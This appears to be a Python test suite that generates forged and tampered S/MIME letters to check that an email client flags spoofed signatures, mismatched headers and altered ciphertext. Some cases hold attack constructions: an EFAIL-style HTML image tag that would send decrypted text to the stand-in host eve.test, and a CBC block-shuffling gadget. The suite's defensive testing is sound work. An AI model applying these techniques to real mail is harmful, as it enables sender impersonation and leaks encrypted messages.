"""What of a letter is signed or encrypted, and what two programs read otherwise."""

import base64

from filedesk import ALICE, BOB, EVE, openssl
from forge import crlf, detached, head, letter, multipart, opaque, part, seal_opaque, sign, signature_part
from spoofs import PAY, attack, each_attack, each_honest, honest


# --- what of it is signed ---------------------------------------------------------------------------

def signed_part(b, person=None, text="Good morning."):
    person = person or b.alice
    return detached(part(text), sign(person, part(text)), "=_signed").rstrip(b"\r\n")


@attack("caution", "sig.partial")
def a_footer_behind_a_signed_part(b):
    return head(ALICE) + multipart([signed_part(b), part("-- \nThe list")])


@attack("caution", "sig.partial")
def a_text_in_front_of_a_signed_part(b):
    return head(ALICE) + multipart([part(PAY), signed_part(b)])


@each_attack("caution", "sig.partial", {
    "related": "related", "alternative": "alternative", "digest-like": "x-unknown", "signed by name": "report",
    "parallel": "parallel"})
def a_signed_part_among_others(b, kind):
    html = part(f'<p>{PAY}</p><img src="cid:signed">', "text/html")
    return head(ALICE) + multipart([html, signed_part(b)], kind)


@attack("caution", "sig.partial")
def a_signed_part_alone_in_a_wrapper(b):
    """Nothing else is shown, and yet the wrapper is anybody's: lists make such letters."""
    return head(ALICE) + multipart([signed_part(b)])


@attack("caution", "sig.partial")
def a_signed_part_that_is_deep(b):
    inside = multipart([part(PAY, "text/html"), signed_part(b)], "related", "=_deep").rstrip(b"\r\n")
    return head(ALICE) + multipart([part(PAY), inside])


@attack("caution", "sig.partial")
def one_branch_of_alternatives_is_signed(b):
    return head(ALICE) + multipart([signed_part(b), part(PAY, "text/html")], "alternative")


@attack("caution", "sig.partial")
def signed_parts_twice(b):
    return head(ALICE) + multipart([signed_part(b), part(PAY), signed_part(b)])


@attack("caution", "sig.partial")
def eves_part_and_then_alices(b):
    second = detached(part(), sign(b.alice, part()), "=_two").rstrip(b"\r\n")
    return head(ALICE) + multipart([signed_part(b, b.eve, PAY), second])


@attack("unsigned", "sig.none")
def a_signed_letter_as_an_attachment(b):
    inner = crlf("Content-Type: message/rfc822\n\n") + letter(b.alice, ALICE).rstrip(b"\r\n")
    return head(ALICE) + multipart([part(PAY), inner])


@attack("unsigned", "sig.none")
def a_signed_letter_as_the_only_part(b):
    return head(ALICE) + crlf("Content-Type: message/rfc822\n\n") + letter(b.alice, ALICE)


@attack("unsigned", "sig.none")
def an_opaque_letter_as_an_attachment(b):
    return head(ALICE) + multipart([part(PAY), opaque(seal_opaque(b.alice, part())).rstrip(b"\r\n")])


@attack("unsigned", "sig.none")
def a_signature_as_an_attachment(b):
    return head(ALICE) + multipart([part(), signature_part(sign(b.alice, part()))])


@attack("unsigned", "sig.unreadable")
def a_third_part_in_multipart_signed(b):
    return head(ALICE) + detached(part(), sign(b.alice, part()), more=[part(PAY)])


@attack("unsigned", "sig.unreadable")
def a_text_in_front_in_multipart_signed(b):
    octets = detached(part(), sign(b.alice, part()), "=_s")
    return head(ALICE) + octets.replace(b"--=_s\r\n", b"--=_s\r\n" + part(PAY) + b"\r\n--=_s\r\n", 1)


@attack("unsigned", "sig.none")
def multipart_signed_that_is_pgp(b):
    """OpenPGP's frame around an S/MIME signature, or the other way round: neither is believed."""
    octets = detached(part(), sign(b.alice, part()), kind="application/pgp-signature")
    return head(ALICE) + octets.replace(b"application/pkcs7-signature\"", b"application/pgp-signature\"")


@honest
def a_long_text_in_the_preamble(b):
    """No MIME reader shows it."""
    return head(ALICE) + detached(part(), sign(b.alice, part()), preamble=PAY + "\n" * 3)


@attack("caution", "letter.ambiguous")
def two_content_types_opaque(b):
    """The one reader sees what is signed, the other the text around it."""
    return (head(ALICE) + opaque(seal_opaque(b.alice, part()))).replace(
        b"\r\nContent-Transfer", b"\r\nContent-Type: text/html\r\nContent-Transfer", 1)


@attack("unsigned", "sig.unreadable")
def two_content_types_detached(b):
    octets = head(ALICE) + detached(part(), sign(b.alice, part()))
    return octets.replace(b"\r\n\r\n", b"\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n", 1)


@attack("unsigned", "sig.none")
def two_content_types_mixed_first(b):
    octets = head(ALICE) + detached(part(), sign(b.alice, part()), "=_a")
    return octets.replace(b"MIME-Version", b"Content-Type: text/plain\r\nMIME-Version", 1)


@attack("caution", "addr.mismatch")
def eve_signs_a_letter_that_holds_one_signed_by_alice(b):
    entity = multipart([part(PAY), signed_part(b)], "mixed", "=_mixed").rstrip(b"\r\n")
    return head(ALICE) + detached(entity, sign(b.eve, entity), "=_outer")


@each_attack("unsigned", "sig.none", {
    "partial": "message/partial; id=x; number=1; total=1", "external": "message/external-body; access-type=URL; URL=x",
    "text": "text/plain", "octets": "application/octet-stream", "news": "message/news"})
def a_signed_letter_inside_another_type(b, kind):
    return head(ALICE) + crlf(f"Content-Type: {kind}\n\n") + letter(b.alice, ALICE)


@each_attack("caution", "sig.partial", {
    "inline": "inline", "attachment": "attachment; filename=a.eml"})
def a_signed_part_with_a_disposition(b, disposition):
    signed = f"Content-Disposition: {disposition}\r\n".encode() + signed_part(b)
    return head(ALICE) + multipart([part(PAY), signed])


@attack("caution", "addr.mismatch")
def a_signed_part_and_eves_opaque_whole(b):
    entity = multipart([part(PAY), signed_part(b)], "mixed", "=_mixed")
    return head(ALICE) + opaque(seal_opaque(b.eve, entity))


@honest
def signed_by_alice_around_eves_signed_letter(b):
    """Alice passes on what Eve wrote: the letter is Alice's."""
    entity = multipart([part("See below."), signed_part(b, b.eve)], "mixed", "=_mixed").rstrip(b"\r\n")
    return head(ALICE) + detached(entity, sign(b.alice, entity), "=_outer")


# --- MIME that two programs read otherwise ----------------------------------------------------------

def spoiled(b, old, new, count=1):
    """A signed letter, with bytes around what is signed that are other than they should be."""
    octets = head(ALICE) + detached(part(), sign(b.alice, part()), "=_s")
    assert old in octets
    return octets.replace(old, new, count)


@each_attack("unsigned", "sig.unreadable", {
    "a part behind the end": (b"--=_s--\r\n", b"--=_s--\r\n--=_s\r\n" + part(PAY) + b"\r\n--=_s--\r\n"),
    "a delimiter behind a bare CR": (b"Good morning.", b"Good\r--=_s\r\n\r\nmorning."),
    "a longer delimiter": (b"Good morning.", b"Good\r\n--=_sx\r\n\r\nmorning."),
    "no end": (b"--=_s--\r\n", b""), "an end too early": (b"\r\n--=_s\r\n", b"\r\n--=_s--\r\n\r\n--=_s\r\n"),
    "an encoding of the whole": (b"MIME-Version: 1.0", b"MIME-Version: 1.0\r\nContent-Transfer-Encoding: base64"),
    "no boundary": (b'boundary="=_s"', b'x-boundary="=_s"')})
def frames_that_programs_read_otherwise(b, change):
    return spoiled(b, *change)


@each_attack("unsigned", "sig.digest-mismatch", {
    "header of the part": (b"Content-Type: text/plain", b"Content-Type: text/html"),
    "a field of the part": (b"Content-Type: text/plain", b"Content-Disposition: attachment\r\nContent-Type: text/plain"),
    "NUL": (b"Good morning.", b"Good\0morning."), "a bare CR": (b"Good morning.", b"Good\rmorning."),
    "a bare LF": (b"Good morning.", b"Good\nmorning."), "a blank": (b"Good morning.\r\n", b"Good morning. \r\n"),
    "a line more": (b"Good morning.\r\n", b"Good morning.\r\n\r\n"),
    "case": (b"charset", b"Charset")})
def what_is_signed_was_changed(b, change):
    return spoiled(b, *change)


@each_attack("unsigned", "sig.none", {
    "no type of its own": (b"Content-Type: multipart/signed", b"X-Content-Type: multipart/signed"),
    "mixed": (b"multipart/signed", b"multipart/mixed"),
    "type without subtype": (b"multipart/signed", b"multipart"),
    "another boundary, encoded": (b'boundary="=_s"', b"boundary==_s; boundary*=utf-8\'\'%3D_t"),
    "two boundaries": (b'boundary="=_s"', b'boundary="=_s"; boundary="=_t"'),
    "a header that ends early": (b"Content-Type: multipart/signed", b"\r\nContent-Type: multipart/signed")})
def no_longer_a_signed_letter(b, change):
    """multipart/mixed: a text and an attachment that happens to be a signature."""
    return spoiled(b, *change)


@each_attack("caution", "letter.ambiguous", {
    "percent codes": (b'boundary="=_s"', b"boundary*=utf-8''%3D_s"), "pieces": (b'boundary="=_s"', b"boundary*0==_; boundary*1=s"),
    "quoted character": (b'boundary="=_s"', b'boundary="=_\\s"'),
    "a line of blanks": (b"; boundary", b";\r\n \r\n\tboundary")})
def a_boundary_that_not_all_understand(b, change):
    """Who does not shows the text in front of the parts."""
    octets = head(ALICE) + detached(part(), sign(b.alice, part()), "=_s", preamble=PAY + "\n")
    assert change[0] in octets
    return octets.replace(*change, 1)


@attack("caution", "letter.ambiguous")
def two_transfer_encodings(b):
    return (head(ALICE) + opaque(seal_opaque(b.alice, part()))).replace(
        b"Encoding: base64\r\n", b"Encoding: base64\r\nContent-Transfer-Encoding: 7bit\r\n", 1)


@attack("unsigned", "letter.unreadable")
def nul_in_another_field(b):
    return head(ALICE, more="X-A: a\0b\n") + detached(part(), sign(b.alice, part()))


@each_attack("unsigned", "letter.unreadable", {
    "fields": b"X-A: b\r\n" * 3000, "a long one": b"X-A: " + b"b" * (300 << 10) + b"\r\n"})
def more_header_than_is_read(b, more):
    return more + letter(b.alice, ALICE)


# --- a protected header, and the one outside --------------------------------------------------------

def protected(b, sender, outside=None, person=None, hp="clear", more="", outside_more="", subject_line="real"):
    """RFC 9788: the header inside is the letter's own."""
    entity = (f"From: {sender}\nTo: {BOB}\nSubject: {subject_line}\nDate: Mon, 02 Nov 2026 10:00:00 +0000\n"
              f"{more}Content-Type: text/plain; hp=\"{hp}\"\n\nGood morning.\n")
    entity = crlf(entity)
    return (head(outside or sender, subject_line="real", more=outside_more)
            + detached(entity, sign(person or b.alice, entity)))


@attack("danger", "hdr.from-mismatch")
def alice_inside_eve_outside_and_signed_by_eve(b):
    return protected(b, ALICE, EVE, b.eve)


@attack("danger", "hdr.from-mismatch")
def alice_outside_eve_inside_and_signed_by_nobody_else(b):
    return protected(b, EVE, ALICE, b.bob)


@each_attack("caution", "hdr.outside-differs", {
    "an old draft's": 'protected-headers="v1"', "one that nobody knows": 'hp="wrapped"', "none": "charset=us-ascii"})
def a_protected_header_that_is_none_names_another(b, parameter):
    """Eve's own letter; but programs that follow an older draft show the From inside."""
    entity = crlf(f'From: {ALICE}\nTo: {BOB}\nSubject: real\nContent-Type: text/plain; {parameter}\n\nhi\n')
    return head(EVE) + detached(entity, sign(b.eve, entity))


@each_honest({"an old draft's": 'protected-headers="v1"', "none": "charset=us-ascii"})
def a_protected_header_of_an_old_draft(b, parameter):
    entity = crlf(f'From: {ALICE}\nTo: {BOB}\nSubject: real\nContent-Type: text/plain; {parameter}\n\nhi\n')
    return head(ALICE) + detached(entity, sign(b.alice, entity))


@attack("caution", "hdr.outside-differs")
def eve_inside_who_signs_and_alice_outside(b):
    """It is shown as it came: with Alice in From."""
    return protected(b, EVE, ALICE, b.eve)


@each_attack("caution", "hdr.outside-differs", {
    "subject": {"subject_line": "other"}, "sender": {"outside_more": f"Sender: {EVE}\n"},
    "reply-to": {"outside_more": f"Reply-To: {EVE}\n"}, "cc": {"outside_more": f"Cc: {EVE}\n"}})
def another_field_outside(b, how):
    return protected(b, ALICE, **how)


@attack("danger", "hdr.from-mismatch")
def two_from_fields_inside(b):
    return protected(b, f"{ALICE}\nFrom: {EVE}", ALICE)


@attack("caution", "addr.several")
def two_mailboxes_inside(b):
    return protected(b, f"{ALICE}, {EVE}")


@attack("danger", "hdr.from-mismatch")
def no_from_inside(b):
    entity = crlf(f'To: {BOB}\nSubject: real\nContent-Type: text/plain; hp="clear"\n\nhi\n')
    return head(ALICE, subject_line="real") + detached(entity, sign(b.alice, entity))


@attack("unsigned", "sig.none")
def protected_by_nobody(b):
    """hp= without a layer says nothing."""
    return head(ALICE) + part(kind='text/plain; hp="clear"', From=EVE)


@attack("caution", "addr.mismatch")
def a_message_of_alice_in_a_letter_of_eve(b):
    """RFC 8551's message/rfc822 form is for one's own header, not for another's."""
    entity = crlf("Content-Type: message/rfc822\n\n") + head(ALICE) + part(PAY)
    return head(ALICE) + detached(entity, sign(b.eve, entity))


@attack("caution", "hdr.outside-differs")
def a_wrapped_message_with_another_subject(b):
    entity = crlf("Content-Type: message/rfc822\n\n") + head(ALICE, subject_line="real") + part()
    return head(ALICE, subject_line="pay") + detached(entity, sign(b.alice, entity))


@honest
def header_protection(b):
    return protected(b, f"Alice <{ALICE}>")


@honest
def header_protection_with_trace_fields_and_a_list(b):
    more = "Received: from x\nList-Id: <x.test>\nDKIM-Signature: v=1\nX-Spam: no\n"
    return protected(b, ALICE, outside_more=more)


@honest
def header_protection_folded_otherwise(b):
    return protected(b, f"Alice Adams <{ALICE}>", outside=f"Alice Adams\r\n <{ALICE}>")


@honest
def a_wrapped_message(b):
    entity = crlf("Content-Type: message/rfc822\n\n") + head(ALICE) + part()
    return head(ALICE) + detached(entity, sign(b.alice, entity))


@honest
def a_message_that_alice_forwards(b):
    """Bob's letter is attached, whole; the letter is Alice's."""
    inner = crlf("Content-Type: message/rfc822\n\n") + head(BOB) + part("I resign.")
    entity = multipart([part("See below."), inner], boundary="=_fwd").rstrip(b"\r\n")
    return letter(b.alice, ALICE, entity)


# --- encrypted --------------------------------------------------------------------------------------

def encrypt(b, entity, *to, cipher="-aes256"):
    """The entity that openssl makes of it, MIME fields first."""
    octets = openssl("cms", "-encrypt", "-binary", cipher, *(b.desk.certs[who] for who in to or (BOB,)),
                     stdin=entity)
    return crlf(octets).replace(b"MIME-Version: 1.0\r\n", b"")


@attack("unsigned", "sig.none")
def only_encrypted(b):
    return head(ALICE) + encrypt(b, part())


@attack("unsigned", "enc.not-for-us")
def encrypted_for_somebody_else(b):
    return head(ALICE) + encrypt(b, part(), EVE)


@attack("caution", "addr.mismatch")
def sealed_by_eve_in_alices_name(b):
    return head(ALICE) + encrypt(b, detached(part(), sign(b.eve, part())))


@attack("caution", "sig.outside-only")
def the_ciphertext_is_signed(b):
    """Anybody can take off that signature and put on an own one."""
    entity = encrypt(b, part()).rstrip(b"\r\n")
    return head(ALICE) + detached(entity, sign(b.alice, entity))


@attack("caution", "addr.mismatch")
def triple_wrapped_and_the_inner_one_is_eves(b):
    inner = encrypt(b, detached(part(), sign(b.eve, part()))).rstrip(b"\r\n")
    return head(ALICE) + detached(inner, sign(b.alice, inner))


@each_attack("unsigned", "sig.none", {
    "html around it": [part('<img src="http://eve.test/', "text/html"), "*", part('">', "text/html")],
    "behind a text": [part(PAY), "*"], "alone": ["*"], "twice": ["*", "*"]})
def an_encrypted_part_that_is_not_the_root(b, parts):
    """EFAIL's direct exfiltration: such a part is never opened into the letter."""
    sealed = encrypt(b, part("the secret canary")).rstrip(b"\r\n")
    return head(ALICE) + multipart([sealed if each == "*" else each for each in parts])


@attack("unsigned", "sig.none")
def sealed_in_openpgps_frame(b):
    sealed = encrypt(b, detached(part(), sign(b.alice, part()))).rstrip(b"\r\n")
    return head(ALICE) + multipart([part("Version: 1", "application/pgp-encrypted"), sealed], "encrypted",
                                   parameters='; protocol="application/pgp-encrypted"')


@each_attack("unsigned", "sig.none", {"PKCS7": "PKCS7", "CMS": "CMS", "MESSAGE": "PGP MESSAGE"})
def a_signature_as_text(b, label):
    der = base64.encodebytes(seal_opaque(b.alice, part())).decode()
    return head(ALICE) + part(f"-----BEGIN {label}-----\n{der}-----END {label}-----")


@attack("unsigned", "sig.none")
def an_encrypted_part_in_an_encrypted_letter(b):
    inner = encrypt(b, part("the secret canary")).rstrip(b"\r\n")
    return head(ALICE) + encrypt(b, multipart([part('<img src="http://eve.test/', "text/html"), inner]))


@attack("caution", "sig.partial")
def a_signed_part_in_an_encrypted_letter(b):
    return head(ALICE) + encrypt(b, multipart([part(PAY), signed_part(b)]))


def shuffle_blocks(octets, at=64):
    """A CBC gadget: a block of the ciphertext once more in front of another."""
    headers, _, body = octets.partition(b"\r\n\r\n")
    der = bytearray(base64.b64decode(body))
    der[-at:-at + 16] = der[-at - 16:-at]
    return headers + b"\r\n\r\n" + base64.encodebytes(bytes(der)).replace(b"\n", b"\r\n")


@attack("unsigned", "sig.none")
def a_cbc_gadget_without_a_signature(b):
    """It opens, into what nobody wrote: `malleable`, which is given on as plain text only."""
    return head(ALICE) + shuffle_blocks(encrypt(b, part("x" * 300)))


@attack("unsigned", "sig.digest-mismatch")
def a_cbc_gadget_in_a_signed_letter(b):
    entity = part("x" * 900 )
    der = seal_opaque(b.alice, entity)
    raw = crlf("Content-Type: application/pkcs7-mime; smime-type=signed-data\n"
               "Content-Transfer-Encoding: binary\n\n") + der
    return head(ALICE) + shuffle_blocks(encrypt(b, raw), at=len(der) - 200)


@attack("unsigned", "enc.undecryptable")
def a_changed_gcm_letter(b):
    return head(ALICE) + shuffle_blocks(encrypt(b, part("x" * 300), cipher="-aes-256-gcm"), at=96)


@each_attack("caution", "addr.not-for-you", {"to": f"To: {EVE}", "cc": f"To: x@y.test\nCc: {EVE}",
                                             "nobody": "To: undisclosed:;", "no field": "X-To: x"})
def sealed_again_for_bob(b, fields):
    """What Alice wrote to somebody else; her signature and her protected header came along."""
    entity = crlf(f'From: {ALICE}\n{fields}\nSubject: real\nContent-Type: text/plain; hp="cipher"\n\n'
                  "You are fired.\n")
    return head(ALICE) + encrypt(b, detached(entity, sign(b.alice, entity)))


AT_REST = crlf("Content-Type: message/rfc822; letterlock=at-rest\n\n")  # src/flow/rest.h


@attack("caution", "addr.mismatch")
def the_mark_of_what_lies_at_rest_in_a_letter_of_eve(b):
    """Only the reader's own signature makes it one."""
    entity = AT_REST + letter(b.alice, ALICE)
    return head(ALICE) + encrypt(b, detached(entity, sign(b.eve, entity), "=_rest"))


@attack("caution", "addr.mismatch")
def the_mark_with_another_key_of_the_readers_name(b):
    """Not one of the reader's keys, whatever its certificate says."""
    entity = AT_REST + letter(b.alice, ALICE)
    return head(ALICE) + encrypt(b, detached(entity, sign(b.bob, entity), "=_rest"))


@each_honest({"cbc": "-aes256", "gcm": "-aes-256-gcm", "aes128": "-aes128"})
def sealed_and_signed(b, cipher):
    return head(ALICE) + encrypt(b, detached(part(), sign(b.alice, part())), cipher=cipher)


@honest
def sealed_for_two(b):
    return head(ALICE) + encrypt(b, detached(part(), sign(b.alice, part())), EVE, BOB)


@honest
def sealed_around_opaque(b):
    return head(ALICE) + encrypt(b, opaque(seal_opaque(b.alice, part())))


@honest
def triple_wrapped(b):
    inner = encrypt(b, detached(part(), sign(b.alice, part()))).rstrip(b"\r\n")
    return head(ALICE) + detached(inner, sign(b.alice, inner))


@each_honest({"to": f"To: {BOB}", "named": f"To: Bob <{BOB.upper()}>", "cc": f"To: x@y.test\nCc: {BOB}",
              "bcc": f"To: x@y.test\nBcc: {BOB}"})
def sealed_for_bob_who_is_named(b, fields):
    entity = crlf(f'From: {ALICE}\n{fields}\nSubject: real\nContent-Type: text/plain; hp="cipher"\n\nhi\n')
    return head(ALICE) + encrypt(b, detached(entity, sign(b.alice, entity)))
